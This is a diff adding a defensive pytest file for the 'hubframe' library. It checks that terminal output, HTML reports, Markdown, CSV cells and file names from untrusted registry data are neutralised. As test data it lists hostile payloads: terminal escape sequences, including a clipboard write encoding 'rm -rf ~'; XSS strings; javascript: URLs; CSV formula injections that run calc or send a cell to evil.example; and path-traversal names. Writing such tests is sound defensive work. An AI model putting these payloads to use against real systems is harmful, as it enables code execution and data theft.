@@ -1,0 +1,378 @@
+"""Strangers' text: in pages, on terminals, in spreadsheets and as names of files."""
+
+import json
+import os
+import pty
+import re
+import subprocess
+import sys
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+import hubframe
+from hubframe.cli import one_line, output
+from hubframe.errors import HubframeError, harmless
+from hubframe.plots.wording import legible
+from hubframe.report import write_report
+from hubframe.tables import TABLES
+from hubframe.tables.schema import sound
+from hubframe.wire.statuses import quotable
+from tests.live import stand
+from tests.test_report import FILES, IMAGE, hub, label, told
+
+# What a terminal acts on, and what turns, hides or forges what people read.
+STEERING = {
+    "colour": "\x1b[31mred\x1b[0m",
+    "title": "\x1b]0;title\x07",
+    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
+    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
+    "answerback": '\x1b[6n\x1b[c\x1bP$q"p\x1b\\',
+    "c1": "\x9b31m\x9d52;c;eA==\x9c\x85",
+    "erase": "good\rbad \x08\x08\x7f\x1b[2K\x1b[1A",
+    "nul": "a\0b",
+    "bidi": "\u202egpj.exe\u202c \u2066x\u2069 \u200f\u061c",
+    "invisible": "ad\u200bmin\u2060\ufeff\xad",
+    "tags": "x\U000e0041\U000e007f",
+    "lines": "one\u2028two\u2029three\x0b\x0c",
+    "half": "a\ud800b\udfff",
+}  # fmt: skip
+ACTS = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff"
+    "\ud800-\udfff\U000e0000-\U000e007f]"
+)
+STEERED = pytest.mark.parametrize("text", STEERING.values(), ids=STEERING)
+ALL = " ".join(STEERING.values())
+
+
+@STEERED
+def test_the_tests_own_measure_sees_it(text):
+    assert ACTS.search(text)
+
+
+@STEERED
+@pytest.mark.parametrize(
+    "make",
+    [quotable, harmless, one_line, legible, output._tame, lambda text: str(HubframeError(text))],
+    ids=["quotable", "harmless", "one_line", "legible", "tame", "an error"],
+)
+def test_nothing_that_steers_is_left(text, make):
+    if make is legible:
+        text = sound(text)  # what frames hold
+    assert not ACTS.search(make(text))
+    assert make("Grüße, 世界 👍") == "Grüße, 世界 👍"
+
+
+@pytest.mark.parametrize("kind", [each for each in hubframe.errors.__dict__.values()
+                                  if isinstance(each, type) and issubclass(each, HubframeError)])  # fmt: skip
+def test_every_error_is_harmless_and_short(kind):
+    shown = str(kind(ALL + "x" * 10**6))
+
+    assert not ACTS.search(shown)
+    assert len(shown) < 5000
+
+
+def test_halves_of_characters_are_read_alike_everywhere():
+    frame = TABLES["labels"].from_records(
+        [{"repo": "a/b", "source": "config", "key": "k", "value": "a\ud800b"}]
+    )
+
+    assert frame.value[0] == sound("a\ud800b") == "a\ufffdb"
+    assert sound("\ud83d\udc4d") == "👍", "two halves are one"
+
+
+# A registry whose documents are full of it.
+
+
+@pytest.fixture(scope="module")
+def rude():
+    """A registry, and the reference of an image all of whose texts steer."""
+    config = {
+        "architecture": "amd64", "os": "linux", "author": ALL, "created": "2024-01-01T00:00:00Z",
+        "config": {"Labels": {f"k{ALL}": ALL, "f": "=cmd|' /C calc'!A0"}, "Env": [f"A={ALL}"],
+                   "Entrypoint": [ALL], "User": ALL, "WorkingDir": ALL},
+        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + "1" * 64]},
+        "history": [{"created": "2024-01-01T00:00:00Z", "created_by": f"RUN {ALL}", "comment": ALL}],
+    }  # fmt: skip
+    with stand.serve() as at:
+        manifest = json.loads(stand.wrapped(at, json.dumps(config).encode()))
+        manifest["annotations"] = {ALL: ALL}
+        image = at.serve("image", json.dumps(manifest).encode())
+        odd = json.loads(json.dumps(manifest))
+        odd["config"]["mediaType"] = f"application/{ALL}"
+        artifact = at.serve("artifact", json.dumps(odd).encode())
+        entry = {"digest": stand.digest_of(b"x"), "size": 1, "mediaType": stand.images.OCI_MANIFEST}
+        entry["platform"] = {"os": ALL, "architecture": ALL}
+        listed = {"schemaVersion": 2, "mediaType": stand.images.OCI_INDEX, "manifests": [entry]}
+        index = at.serve("index", json.dumps(listed).encode())
+        yield {"image": image, "artifact": artifact, "index": index}
+
+
+def command(*arguments, terminal=True):
+    """Run a command whose stdout and stderr are a terminal, or pipes; return both, and the status."""
+    ends = [pty.openpty() if terminal else os.pipe() for _ in range(2)]
+    out, err = (ends[0][1], ends[1][1])
+    process = subprocess.Popen(
+        [sys.executable, "-m", "hubframe", *arguments],
+        stdout=out, stderr=err, stdin=subprocess.DEVNULL,
+        env={**os.environ, "COLUMNS": "500", "NO_PROXY": "127.0.0.1",
+             "PYTHONPATH": str(Path(hubframe.__file__).parent.parent)},
+    )  # fmt: skip
+    os.close(out)
+    os.close(err)
+    read = [_all(end[0]) for end in ends]
+    return (*read, process.wait(60))
+
+
+def _all(descriptor):
+    seen = b""
+    with os.fdopen(descriptor, "rb", buffering=0) as end:
+        try:
+            while chunk := end.read(65536):
+                seen += chunk
+        except OSError:
+            pass  # what a terminal says at its end
+    return seen
+
+
+def harmless_bytes(seen):
+    """Tell whether a terminal only shows what it was given; it ends lines with \\r\\n itself."""
+    return not ACTS.search(seen.decode().replace("\r\n", "\n"))
+
+
+@pytest.mark.parametrize("name", ["labels", "history", "configs"])
+def test_a_table_on_a_terminal(rude, name):
+    shown, said, status = command(name, rude["image"])
+
+    assert status == 0, said
+    assert b"image" in shown
+    assert harmless_bytes(shown)
+    assert harmless_bytes(said)
+
+
+@pytest.mark.parametrize("form", ["json", "markdown", "csv"])
+def test_a_format_on_a_terminal(rude, form):
+    shown, said, status = command("labels", rude["image"], "--format", form)
+
+    assert status == 0, said
+    assert harmless_bytes(shown)
+
+
+def test_inspect_on_a_terminal(rude):
+    shown, _, status = command("inspect", rude["image"])
+
+    assert status == 0
+    assert b"Labels" in shown
+    assert harmless_bytes(shown)
+
+
+def test_a_manifest_is_shown_harmless_on_a_terminal_and_given_whole_to_a_program(rude):
+    exact = hubframe.raw_manifest(rude["image"])
+    shown, _, _ = command("manifest", rude["image"])
+    piped, said, status = command("manifest", rude["image"], terminal=False)
+
+    assert harmless_bytes(shown)
+    assert b"schemaVersion" in shown
+    assert (piped, said, status) == (exact, b"", 0)
+
+
+@pytest.mark.parametrize("what", ["artifact", "index"])
+def test_an_error_on_a_terminal(rude, what):
+    shown, said, status = command("inspect", rude[what])
+
+    assert (shown, status) == (b"", 1)
+    assert harmless_bytes(said)
+    assert said.count(b"\n") == 1
+
+
+@pytest.mark.parametrize("what", ["artifact", "index"])
+def test_an_error_in_a_program(rude, what):
+    with pytest.raises(HubframeError) as caught:
+        hubframe.inspect(rude[what])
+
+    assert not ACTS.search(str(caught.value))
+
+
+def test_warnings_and_failures(rude):
+    with pytest.warns(hubframe.IncompleteWarning) as said:
+        frame = hubframe.labels_df([rude["index"], rude["image"]], errors="collect")
+    (failure,) = frame.attrs["hubframe"]["failures"]
+
+    assert not ACTS.search(failure["message"])
+    assert not any(ACTS.search(str(each.message)) for each in said)
+
+
+# Pages.
+
+
+EVIL = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "'onmouseover='x",
+    "</title></style><script>x</script>", "{{ 7 * 7 }}{% raw %}", "&lt;b&gt;&#60;i&#62;", "]]><!--", "`code`",
+    "[link](javascript:alert(1))", "![x](https://evil.example/x.png)", "<a href=javascript:x>", "$\\href{javascript:x}{y}$",
+]  # fmt: skip
+ADDRESSES = [
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "\x01javascript:x", "java\nscript:x", "data:text/html,<script>",
+    "vbscript:x", "//evil.example", "file:///etc/passwd", "https://x.example/\u202e", 'https://x.example/"onclick="x',
+    "https://x.example/ y", "http:javascript:x", "https://x.example/<b>",
+]  # fmt: skip
+
+
+class Elements(HTMLParser):
+    def __init__(self, text):
+        super().__init__()
+        self.tags, self.attributes = set(), []
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attributes += attrs
+
+
+def evil_world(text):
+    world = hub(repos=2, tags=3)
+    for frame in world.values():
+        for name, dtype in frame.dtypes.items():
+            if str(dtype) == "str" and name not in ("key", "media_type"):
+                frame[name] = text + frame[name]
+    source = {"repo": world["repos"]["repo"][0], "tag": "t"}
+    links = [label(IMAGE | source, "source", address) for address in ADDRESSES]
+    world["labels"] = pd.concat(
+        [world["labels"], TABLES["labels"].from_records(links)], ignore_index=True
+    )
+    return told(world, complete=False, failures=[{"ref": text, "error": text, "message": text}])
+
+
+@pytest.fixture(scope="module")
+def usual_elements(tmp_path_factory):
+    page = write_report(evil_world("x"), tmp_path_factory.mktemp("usual"), title="t")
+    return Elements(page.read_text(encoding="utf-8"))
+
+
+def test_a_page_has_no_element_and_no_attribute_of_strangers(tmp_path, usual_elements):
+    evil = "".join(EVIL) + sound(ALL)
+    page = write_report(evil_world(evil), tmp_path, title=evil, note=evil)
+    text = page.read_text(encoding="utf-8")
+    found = Elements(text)
+
+    assert found.tags <= usual_elements.tags | {"span"}
+    assert {name for name, _ in found.attributes} <= {n for n, _ in usual_elements.attributes} | {
+        "title"
+    }
+    assert {path.name for path in tmp_path.iterdir()} == FILES | {"report.html", "summary.json"}
+    assert not ACTS.search(text)
+    hrefs = [value for name, value in found.attributes if name in ("href", "src", "action")]
+    assert all(
+        re.match(r"#|[a-z]+\.(csv|json)$|data:image/png|https://git\.example", h) for h in hrefs
+    )
+    assert "49" not in re.findall(r"<h1>(.*)</h1>", text, re.DOTALL)[0]
+
+
+@pytest.mark.parametrize("address", ADDRESSES)
+def test_no_link_but_to_the_web(address):
+    labels = TABLES["labels"].from_records([label(IMAGE, "source", address)])
+
+    assert hubframe.measure.source_links(labels).empty
+
+
+def test_frames_in_notebooks_escape_html():
+    frame = TABLES["labels"].from_records(
+        {"repo": "a/b", "source": "config", "key": f"k{i}", "value": text}
+        for i, text in enumerate(EVIL)
+    )
+    shown = Elements(frame._repr_html_())
+
+    assert shown.tags <= {"div", "style", "table", "thead", "tbody", "tr", "th", "td", "p"}
+    assert {name for name, _ in shown.attributes} <= {"border", "class", "style", "scoped"}
+
+
+def test_markdown_of_strangers_makes_nothing(tmp_path):
+    frame = TABLES["labels"].from_records(
+        [{"repo": "a/b", "source": "config", "key": "k|ey", "value": text} for text in EVIL]
+    )
+    rows = output._markdown(frame).splitlines()[2:]
+
+    assert len(rows) == len(EVIL)
+    for row in rows:
+        assert not re.search(r"(?<!\\)(?:\\\\)*[<`\[\]]", row)
+        assert len(re.findall(r"(?<!\\)\|", row)) == len(frame.columns) + 1
+
+
+# Spreadsheets.
+
+
+FORMULAS = [
+    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1", "'@x", "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1)', "-2+3+cmd|' /C calc'!A0", "'''\t", "=", "-",
+]  # fmt: skip
+
+
+def test_no_cell_is_run_and_all_come_back():
+    frame = TABLES["labels"].from_records(
+        [{"repo": "a/b", "source": "config", "key": text, "value": text}
+         for text in [*FORMULAS, "plain", "a=1", " =1", ALL]]
+    )  # fmt: skip
+    text = hubframe.write_csv(frame)
+    cells = pd.read_csv(pd.io.common.StringIO(text), dtype=str, keep_default_na=False)
+    bare = hubframe.write_csv(frame, verbatim=True)
+
+    assert not cells.map(lambda cell: bool(re.match(r"[=+\-@\t\r]", cell))).any(axis=None)
+    assert (cells.value[: len(FORMULAS)] == ["'" + each for each in FORMULAS]).all()
+    assert cells.value[len(FORMULAS)] == "plain"
+    for written, verbatim in ((text, False), (bare, True)):
+        read = hubframe.read_csv(pd.io.common.StringIO(written), "labels", verbatim=verbatim)
+        pd.testing.assert_frame_equal(read, frame)
+    assert '"=1+1","=1+1"' in bare
+
+
+# Names of files.
+
+
+NAMES = ["../../x", "/etc/passwd", "a\0b", "CON", "nul.txt", "x" * 5000, "..\\..\\x", "~/x", "$(id)", ".", "-rf"]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
+def test_no_name_becomes_a_path(tmp_path, name):
+    folder = tmp_path / "in" / "report"
+    world = evil_world(name)
+    write_report(world, folder, title=name)
+
+    assert {path.name for path in folder.iterdir()} == FILES | {"report.html", "summary.json"}
+    assert [path.name for path in tmp_path.iterdir()] == ["in"]
+    assert [path.name for path in folder.parent.iterdir()] == ["report"]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../../x",
+        "/etc/passwd",
+        "a\0b",
+        "a/../b",
+        "x.example/../a",
+        "a//b",
+        "a/b:../c",
+        "~x",
+        "x" * 5000,
+        "-rf",
+        "..\\x",
+    ],
+)
+def test_no_such_name_is_asked_for(name, sample_client):
+    with pytest.raises(hubframe.InvalidReferenceError) as caught:
+        hubframe.tags_df(name, client=sample_client)
+    assert len(str(caught.value)) < 500
+
+
+def test_what_lies_in_a_report_folder_is_replaced_and_not_followed(tmp_path):
+    folder, precious = tmp_path / "report", tmp_path / "precious"
+    folder.mkdir()
+    precious.write_text("mine")
+    for name in ("report.html", "tags.csv", "pulls.png", "summary.json"):
+        (folder / name).symlink_to(precious)
+    write_report(hub(repos=1, tags=1), folder, title="t")
+
+    assert precious.read_text() == "mine"
+    assert not any(path.is_symlink() for path in folder.iterdir())
+    assert not list(folder.glob(".report-*"))
